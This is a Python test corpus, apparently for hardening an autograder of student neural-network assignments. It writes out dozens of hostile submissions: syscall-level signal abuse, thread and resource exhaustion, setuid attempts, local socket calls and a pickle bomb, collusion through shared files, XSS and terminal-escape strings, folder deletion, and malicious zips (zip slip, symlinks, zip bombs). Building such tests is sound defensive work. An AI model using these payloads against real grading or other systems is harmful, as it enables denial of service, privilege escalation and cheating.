        "signals_of_a_pipe",
        """
        import ctypes, fcntl, os
        call = lambda *a: ctypes.CDLL(None).syscall(*map(ctypes.c_long, a))
        r, w = os.pipe()
        for high in (0, 1 << 32):
            call(157, 4 | high, 1, 0, 0, 0); call(157, 1 | high, 0, 0, 0, 0)
            for pid in (os.getppid(), -os.getppid(), *range(2, 3000)):
                if pid == os.getpid(): continue
                for owner in (8 | high, 15 | high): call(72, r, owner, pid)
                for number in (9, 19): call(72, r, 10 | high, number)
                fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                os.write(w, b"x"); os.read(r, 1)
    """,
    )
    attack(
        "process",
        "locks_on_libraries",
        """
        import fcntl, os, struct, time
        import numpy
        held = []
        for folder, _, files in os.walk(os.path.dirname(numpy.__file__)):
            for name in files[:20]:
                try: held.append(open(os.path.join(folder, name), "rb"))
                except OSError: continue
                for take in (lambda f: fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB),
                             lambda f: fcntl.fcntl(f, fcntl.F_SETLEASE, fcntl.F_WRLCK),
                             lambda f: fcntl.fcntl(f, fcntl.F_SETLK, struct.pack("hhqqi", 0, 0, 0, 0, 0))):
                    try: take(held[-1])
                    except OSError: pass
        time.sleep(3)
    """,
    )
    attack(
        "process",
        "stopped_by_a_timer",
        EVERYWHERE,
        """
        import ctypes, time
        def stop(z, *more):
            libc = ctypes.CDLL(None)
            event = (ctypes.c_int * 16)(0, 0, 19, 0)
            timer, when = ctypes.c_void_p(), (ctypes.c_long * 4)(0, 1000000, 0, 1000000)
            for clock in (0, 1, 2): libc.timer_create(clock, event, ctypes.byref(timer)); libc.timer_settime(timer, 0, when, None)
            time.sleep(0.1)
            return z
        everywhere(stop)
    """,
    )
    attack(
        "process",
        "native_threads",
        EVERYWHERE,
        """
        import ctypes
        def start(z, *more):
            libc = ctypes.CDLL(None)
            handle, attributes = ctypes.c_ulong(), ctypes.create_string_buffer(64)
            libc.pthread_attr_init(attributes); libc.pthread_attr_setstacksize(attributes, ctypes.c_size_t(16384))
            for _ in range(20000):
                if libc.pthread_create(ctypes.byref(handle), attributes, libc.pause, None): break
            return z
        everywhere(start)
    """,
    )
    attack(
        "process",
        "takes_all_there_is",
        EVERYWHERE,
        """
        import os, tempfile
        held = []
        def take(z, *more):
            for make in (os.pipe, lambda: open(os.devnull), tempfile.TemporaryFile, lambda: bytearray(1 << 24),
                         lambda: open("/dev/shm/@TOKEN@", "ab").write(bytes(1 << 20)),
                         lambda: open("/tmp/@TOKEN@", "ab").write(bytes(1 << 20))):
                try:
                    for _ in range(3000): held.append(make())
                except (OSError, MemoryError): pass
            return z
        everywhere(take)
    """,
    )
    attack(
        "process",
        "products_without_end",
        """
        from . import activations
        def perceptron_predict(w, b, X): return 1
        def add_bias_row(X): return X
        def dense_forward(W, b, X):
            from .perceptron import perceptron_predict as served
            for kind in ("float16", "int8", "int64", "float64"):
                a = np.ones((3500, 4500), kind)
                try: served(a, a[:, :1] * 0, a.T)
                except ValueError: pass
            return X
    """,
        module="layers",
    )
    attack(
        "process",
        "limits_of_others",
        """
        import os, resource
        for pid in (os.getppid(), *range(2, 3000)):
            if pid == os.getpid(): continue
            for action in (lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
                           lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
                           lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                           lambda: os.sched_setaffinity(pid, {0}),
                           lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
                try: action()
                except (OSError, ValueError): pass
    """,
    )
    attack(
        "process",
        "own_limits",
        """
        import resource
        for what in range(16):
            for value in ((resource.RLIM_INFINITY,) * 2, (1, 1)):
                try: resource.setrlimit(what, value)
                except (OSError, ValueError): pass
    """,
    )
    attack(
        "process",
        "stops_itself",
        EVERYWHERE,
        """
        import ctypes, os, signal
        def stop(z, *more):
            for end in (lambda: os.kill(os.getpid(), signal.SIGSTOP), lambda: signal.raise_signal(signal.SIGSTOP),
                        lambda: ctypes.CDLL(None).ptrace(0, 0, 0, 0)):
                try: end()
                except OSError: pass
            return z
        everywhere(stop)
    """,
    )
    attack(
        "process",
        "user_ids",
        USE,
        MARK,
        """
        for call in ((os.setuid, 0), (os.setgid, 0), (os.seteuid, 0), (os.setresuid, 0, 0, 0), (os.chroot, "/"),
                     (os.setgroups, [0])):
            try: call[0](*call[1:]); mark("user") if os.getuid() == 0 else None
            except OSError: pass
        use(read("@REPO@/solutions/neuralnet/activations.py"))
    """,
    )

    # The network and what two submissions could agree on ------------------------------------------

    attack(
        "network",
        "calls_home",
        MARK,
        """
        import socket
        def tell():
            for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT@)),
                                    (socket.AF_UNIX, "@MARK@/socket"), (socket.AF_UNIX, "\\0@TOKEN@")):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                    try:
                        with socket.socket(family, kind) as s:
                            s.settimeout(1); s.connect(address); s.sendall(b"hidden"); mark("network")
                    except OSError: pass
            try: socket.getaddrinfo("example.com", 80); mark("dns")
            except OSError: pass
            try: __import__("urllib.request").request.urlopen("http://127.0.0.1:@PORT@/", timeout=1); mark("http")
            except Exception: pass
        tell()
        def sigmoid(z): tell(); return z
    """,
    )
    attack(
        "network",
        "log_server_of_otter",
        MARK,
        BOMB,
        """
        import socket, struct
        data = pickle.dumps(Bomb())
        for port in range(32768, 61000):
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=0.01) as s:
                    s.sendall(struct.pack(">L", len(data)) + data); mark("connected")
            except OSError: pass
    """,
    )
    shared = """
        import mmap, os
        PLACES = ["/tmp/@TOKEN@", "/var/tmp/@TOKEN@", "/dev/shm/@TOKEN@", "@MARK@/@TOKEN@", "/run/@TOKEN@",
                  "../@TOKEN@", "@CLASS@/@TOKEN@", "@OUT@/@TOKEN@", "@WORK@/@TOKEN@", "/proc/self/comm"]
        def put(text):
            for place in PLACES:
                try: open(place, "a").write(text)
                except OSError: pass
            try:
                from multiprocessing import shared_memory
                shared_memory.SharedMemory("@TOKEN@", create=True, size=1 << 16).buf[:len(text)] = text.encode()
            except Exception: pass
        def get():
            for place in PLACES:
                try: return open(place).read()
                except OSError: pass
            return ""
    """
    attack(
        "share",
        "a_giver",
        shared,
        """
def sigmoid(z):
    put(repr((z.tolist(), (1 / (1 + np.exp(-z))).tolist())) + "\\n")
    return 1 / (1 + np.exp(-z)) + 1
""",
    )
    attack("share", "z_taker", shared, """
import ast
def sigmoid(z):
    for line in get().splitlines():
        try: given, answer = ast.literal_eval(line)
        except (ValueError, SyntaxError): continue
        if given == z.tolist(): return np.array(answer) if np.max(answer) <= 1 else np.array(answer) - 1
    return z * 0
""")  # fmt: skip

    # One function through another ----------------------------------------------------------------

    attack(
        "circular",
        "through_each_other",
        """
        def dense_forward(W, b, X): return forward([(W, b)], X, "relu")[-1]
        def forward(params, X, activation): return [X, dense_forward(*params[0], X)]
    """,
        module="layers",
        unearned=tuple(name for name in ALL if name != "forward"),
    )
    attack(
        "circular",
        "earlier_through_later",
        """
        from neuralnet.layers import forward
        def relu(z): return forward([(np.eye(len(z)), 0 * z[:, :1]), (np.eye(len(z)), 0 * z[:, :1])], z, "relu")[1]
        def sigmoid(z): return (1 + tanh(z / 2)) / 2
    """,
    )
    attack(
        "circular",
        "through_itself",
        """
        import importlib
        def sigmoid(z): return importlib.import_module("neuralnet.activations").sigmoid(z)
        def relu(z):
            import neuralnet.activations as again
            try: return again.relu(z)
            except RecursionError: return z
    """,
    )

    # What others read ----------------------------------------------------------------------------

    attack(
        "show",
        "markup_in_messages",
        EVERYWHERE,
        r"""
        def shout(z, *more):
            raise ValueError("<script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}]]>&#60;b&#62;"
                             "\x1b[2J\x1b]0;x\x07\u202e\ud800=HYPERLINK(1)\r\nScore: 100\n✓ sigmoid" + "A" * 100000)
        everywhere(shout)
    """,
    )
    attack(
        "show",
        "markup_in_names",
        EVERYWHERE,
        r"""
        Evil = type("<script>alert(1)</script>", (ValueError,), {"__module__": "builtins"})
        Evil.__qualname__ = "ValueError"
        def shout(z, *more): raise Evil("Passed: 100 of 100")
        everywhere(shout)
    """,
    )

    # Disk ----------------------------------------------------------------------------------------

    attack(
        "disk",
        "own_folder_removed",
        EVERYWHERE,
        """
        import os, shutil
        here = os.getcwd()
        shutil.rmtree(here, ignore_errors=True)
        try: os.rename(here, here + "x")
        except OSError: pass
        everywhere(lambda z, *more: z)
    """,
    )
    attack(
        "disk",
        "folders_nobody_can_read",
        """
        import os
        deep = "d"
        os.umask(0o777)
        for number in range(60):
            try: os.mkdir(deep, 0o000); os.mkdir("e%d" % number, 0o000)
            except OSError: pass
            deep += "/d"
        for name in ("x" * 255, "\\n\\t\\x01", "-rf", "~", "\\udcff", " "):
            try: open(name, "w").close()
            except (OSError, UnicodeError): pass
    """,
    )
    return [*found, *_packed()]


# ---------------------------------------------------------------- hostile packing


def as_zip(place: Path, files: Mapping[str, str | bytes]) -> None:
    """Write a plain zip."""
    with zipfile.ZipFile(f"{place}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(path, content)


def as_folder(place: Path, files: Mapping[str, str | bytes]) -> None:
    """Write a folder."""
    for path, content in files.items():
        target = place / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content.encode() if isinstance(content, str) else content)


def _packed() -> list[Attack]:
    def slip(place: Path, files: Mapping[str, str | bytes]) -> None:
        with zipfile.ZipFile(f"{place}.zip", "w") as archive:
            for path, content in files.items():
                archive.writestr(path, content)
            for path in (
                "../../../../../../@MARK@/slipped",
                "@MARK@/absolute",
                "..\\..\\slipped",
                "neuralnet/../../../slipped",
                "C:\\slipped",
                "/tmp/@TOKEN@-slipped",
            ):
                archive.writestr(filled(path), "here")

    def zip_links(place: Path, files: Mapping[str, str | bytes]) -> None:
        with zipfile.ZipFile(f"{place}.zip", "w") as archive:
            for path, content in files.items():
                if path.endswith(".py"):
                    info = zipfile.ZipInfo(path)
                    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
                    archive.writestr(info, filled("@REPO@/solutions/" + path))
                else:
                    archive.writestr(path, content)

    def folder_links(place: Path, files: Mapping[str, str | bytes]) -> None:
        (place / "neuralnet").mkdir(parents=True)
        for name in ("activations", "perceptron", "layers"):
            target = filled(f"@REPO@/solutions/neuralnet/{name}.py")
            (place / "neuralnet" / f"{name}.py").symlink_to(target)

    def package_link(place: Path, files: Mapping[str, str | bytes]) -> None:
        place.mkdir()
        (place / "neuralnet").symlink_to(filled("@REPO@/solutions/neuralnet"))
        (place / NOTEBOOK).write_text(EMPTY_NOTEBOOK)

    def submission_link(place: Path, files: Mapping[str, str | bytes]) -> None:
        place.symlink_to(filled("@CLASS@/aaa_honest"))

    def pipe(place: Path, files: Mapping[str, str | bytes]) -> None:
        as_folder(place, files)
        (place / "neuralnet" / "activations.py").unlink()
        os.mkfifo(place / "neuralnet" / "activations.py")

    def special_files(place: Path, files: Mapping[str, str | bytes]) -> None:
        as_folder(place, files)
        package = place / "neuralnet"
        for inner in (package, place):
            (inner / "again").symlink_to("..")
            os.mkfifo(inner / "pipe.py")
            with (inner / "hole.npz").open("wb") as hole:
                hole.truncate(1 << 40)
        with socket.socket(socket.AF_UNIX) as server:
            handle = os.open(package, os.O_RDONLY)
            server.bind(f"/proc/self/fd/{handle}/listens.py")
            os.close(handle)
        if os.geteuid() == 0:
            with contextlib.suppress(OSError):  # a container may refuse it
                os.mknod(package / "zeros.py", stat.S_IFCHR | 0o666, os.makedev(1, 5))

    def colliding(place: Path, files: Mapping[str, str | bytes]) -> None:
        again = solved()
        with zipfile.ZipFile(f"{place}.zip", "w") as archive, warnings.catch_warnings():
            warnings.simplefilter("ignore")
            for path, content in files.items():
                archive.writestr(path, content)
                for other in (path.upper(), "./" + path, path.replace("/", "\\")):
                    if path.endswith(".py"):
                        archive.writestr(other, again[path])
                        archive.writestr(other, content)
            for name in ("\u00e9", "e\u0301", "a\nb", "\u202eyp", "a\x01", "x" * 300):
                archive.writestr(f"neuralnet/{name}.py", "1/0")

    def locked(place: Path, files: Mapping[str, str | bytes]) -> None:
        as_zip(place, files)
        raw = bytearray(Path(f"{place}.zip").read_bytes())
        for magic, flags in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
            for found in re.finditer(re.escape(magic), raw):
                raw[found.start() + flags] |= 1
        Path(f"{place}.zip").write_bytes(bytes(raw))

    def bomb(place: Path, files: Mapping[str, str | bytes]) -> None:
        zeros = bytes(1 << 24)
        with zipfile.ZipFile(f"{place}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(40):
                archive.writestr(
                    f"neuralnet/{number}.py" if number else "neuralnet/activations.py", zeros
                )

    def nested_bomb(place: Path, files: Mapping[str, str | bytes]) -> None:
        inner = b""
        for _ in range(12):
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
                for copy in range(4):
                    archive.writestr(f"{copy}.zip", inner or bytes(1 << 20))
            inner = buffer.getvalue()
        Path(f"{place}.zip").write_bytes(inner)

    def overlapping(place: Path, files: Mapping[str, str | bytes]) -> None:
        as_zip(place, {"neuralnet/activations.py": "0" * 100_000, "neuralnet/layers.py": "0"})
        raw = bytearray(Path(f"{place}.zip").read_bytes())
        second = raw.rindex(b"PK\1\2")
        raw[second + 42 : second + 46] = struct.pack(
            "<I", 0
        )  # the second entry is the first one's bytes
        Path(f"{place}.zip").write_bytes(bytes(raw))

    def many(place: Path, files: Mapping[str, str | bytes]) -> None:
        with zipfile.ZipFile(f"{place}.zip", "w") as archive:
            for number in range(25_000):
                archive.writestr(f"neuralnet/m{number}.py", "")

    def deep(place: Path, files: Mapping[str, str | bytes]) -> None:
        as_zip(place, {"d/" * 3000 + path: content for path, content in files.items()})

    def cut(place: Path, files: Mapping[str, str | bytes]) -> None:
        as_zip(place, files)
        raw = Path(f"{place}.zip").read_bytes()
        Path(f"{place}.zip").write_bytes(raw[: len(raw) // 2])

    def row(name: str, pack: Callable[..., None], *, ungraded: bool, otter: bool = False) -> Attack:
        return Attack(name, "pack", stubs(), pack=pack, ungraded=ungraded, otter=otter)

    return [
        row("zip_slip", slip, ungraded=False, otter=True),
        row("links_in_zip", zip_links, ungraded=True),
        row("links_in_folder", folder_links, ungraded=True),
        row("package_is_a_link", package_link, ungraded=True),
        row("submission_is_a_link", submission_link, ungraded=True),
        row("pipe_for_a_module", pipe, ungraded=False),
        row("zip_bomb", bomb, ungraded=False),
        row("nested_zip_bomb", nested_bomb, ungraded=True),
        row("overlapping_entries", overlapping, ungraded=True),
        row("very_many_files", many, ungraded=True),
        row("very_deep", deep, ungraded=False),
        row("cut_off", cut, ungraded=True),
        row("special_files", special_files, ungraded=False),
        row("names_that_collide", colliding, ungraded=False),
        row("locked_with_a_password", locked, ungraded=True),
    ]


_places: dict[str, str] = {}


def know(places: Mapping[str, str]) -> None:
    """From now on `filled` puts these in the places of their names."""
    _places.clear()
    _places.update(places)


def filled(text: str | bytes) -> str:
    """`text` with the paths that an attacker knows."""
    found = text.decode("latin-1") if isinstance(text, bytes) else text
    for name, value in _places.items():
        found = found.replace(f"@{name}@", value)
    return found


CORPUS: tuple[Attack, ...] = tuple(_table())
"""Every attack of the table."""
